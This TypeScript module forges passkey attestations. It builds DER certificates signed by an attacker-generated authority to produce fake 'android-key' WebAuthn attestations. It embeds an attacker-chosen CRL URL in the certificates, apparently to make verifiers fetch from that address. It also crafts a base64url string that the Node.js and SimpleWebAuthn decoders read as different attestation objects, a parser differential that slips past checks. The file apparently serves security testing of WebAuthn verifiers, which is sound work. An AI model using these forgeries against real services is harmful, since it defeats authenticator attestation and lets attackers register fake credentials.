// Forges attestations of passkeys. Each has a certificate that an attacker has signed, and that names an address from which a list of
// revoked certificates (CRL) can be downloaded.
import { generateKeyPairSync, sign } from 'node:crypto';
import { bytes, text, type Attestation, type Attested } from './software-passkey.ts';

/** Encodes a value in DER (ITU-T X.690). */
function der(tag: number, ...parts: readonly Buffer[]): Buffer {
  const value = Buffer.concat(parts);
  const length = value.length < 128 ? [value.length] : [0x82, value.length >> 8, value.length & 0xff];
  return Buffer.concat([Buffer.from([tag, ...length]), value]);
}
const [SEQUENCE, SET, OCTETS, BITS] = [0x30, 0x31, 0x04, 0x03];
const object = (hex: string): Buffer => der(0x06, Buffer.from(hex, 'hex'));
const integer = (value: number): Buffer => der(0x02, Buffer.from([value]));
const enumerated = (value: number): Buffer => der(0x0a, Buffer.from([value]));

const ECDSA_WITH_SHA256 = der(SEQUENCE, object('2a8648ce3d040302'));
const VALIDITY = der(SEQUENCE, ...['200101000000Z', '490101000000Z'].map((time) => der(0x17, Buffer.from(time))));
const nameOf = (name: string): Buffer => der(SEQUENCE, der(SET, der(SEQUENCE, object('550403'), der(0x0c, Buffer.from(name)))));
const ISSUER = nameOf('Attacker');
const authority = generateKeyPairSync('ec', { namedCurve: 'P-256' });

/** Returns a certificate that the attacker's own authority has signed. */
function certificate({ subject, publicKey, extensions }: { subject: Buffer; publicKey: Buffer; extensions: readonly Buffer[] }): Buffer {
  const more = extensions.length === 0 ? [] : [der(0xa3, der(SEQUENCE, ...extensions))];
  const version = der(0xa0, integer(2));
  const content = der(SEQUENCE, version, integer(1), ECDSA_WITH_SHA256, ISSUER, VALIDITY, subject, publicKey, ...more);
  const signature = sign('sha256', content, authority.privateKey);
  return der(SEQUENCE, content, ECDSA_WITH_SHA256, der(BITS, Buffer.from([0]), signature));
}

/** Returns the extension that Android adds to a certificate. The extension contains the hash of the client data. */
const keyDescription = (clientDataHash: Buffer): Buffer => {
  const levels = [integer(3), enumerated(0), integer(4), enumerated(0)];
  return der(SEQUENCE, ...levels, der(OCTETS, clientDataHash), der(OCTETS), der(SEQUENCE), der(SEQUENCE));
};

/** Returns the certificate extension with the URL of the list of revoked certificates. */
const revocationList = (url: string): Buffer => der(SEQUENCE, der(SEQUENCE, der(0xa0, der(0xa0, der(0x86, Buffer.from(url))))));

/** Returns the attestation 'android-key'. Its chain of certificates ends at the attacker's own authority. */
export const forgedAndroidKey =
  (url: string) =>
  ({ publicKey, clientDataHash, signature }: Attested): Attestation => {
    const extensions = [
      der(SEQUENCE, object('2b06010401d679020111'), der(OCTETS, keyDescription(clientDataHash))),
      der(SEQUENCE, object('551d1f'), der(OCTETS, revocationList(url))),
    ];
    const leaf = certificate({ subject: nameOf('Passkey'), publicKey, extensions });
    const root = certificate({ subject: ISSUER, publicKey: authority.publicKey.export({ type: 'spki', format: 'der' }), extensions: [] });
    const chain = Buffer.concat([Buffer.from([0x82]), bytes(leaf), bytes(root)]);
    return { fmt: 'android-key', statement: { alg: Buffer.from([0x26]), sig: bytes(signature), x5c: chain } };
  };

/**
 * Encodes an attestation object so that two decoders of base64url read different objects. A decoder that skips invalid characters, such as
 * that of Node.js, reads an object without attestation. A decoder that reads invalid characters as zeros, such as that of SimpleWebAuthn,
 * reads the fields of the given object.
 */
export function ambiguous(attestationObject: string): string {
  const fields = Buffer.from(attestationObject, 'base64url').subarray(1);
  // The object has five fields. The value of the first field has three bytes. The two decoders read different values: the three zeros or
  // the three bytes that follow.
  const head = Buffer.concat([Buffer.from([0xa5]), text('pad'), Buffer.from([0x43])]);
  // In the reading with zeros, the second field begins here. The byte after this buffer is the length of its value: 0x63, which is also the
  // first byte of 'fmt' in the other reading.
  const second = Buffer.concat([text('y'), Buffer.from([0x58])]);
  const without = [text('fmt'), text('none'), text('attStmt'), Buffer.from([0xa0]), text('authData'), Buffer.from([0x59, 0, 0])];
  const before = Buffer.concat(without);
  const hidden = Buffer.concat([Buffer.alloc(0x63 + 1 - before.length), fields]);
  before.writeUInt16BE(hidden.length, before.length - 2);
  const rest = Buffer.concat([second, before, hidden, text('last'), Buffer.from([0])]);
  return `${head.toString('base64url')}!!!!${rest.toString('base64url')}`;
}
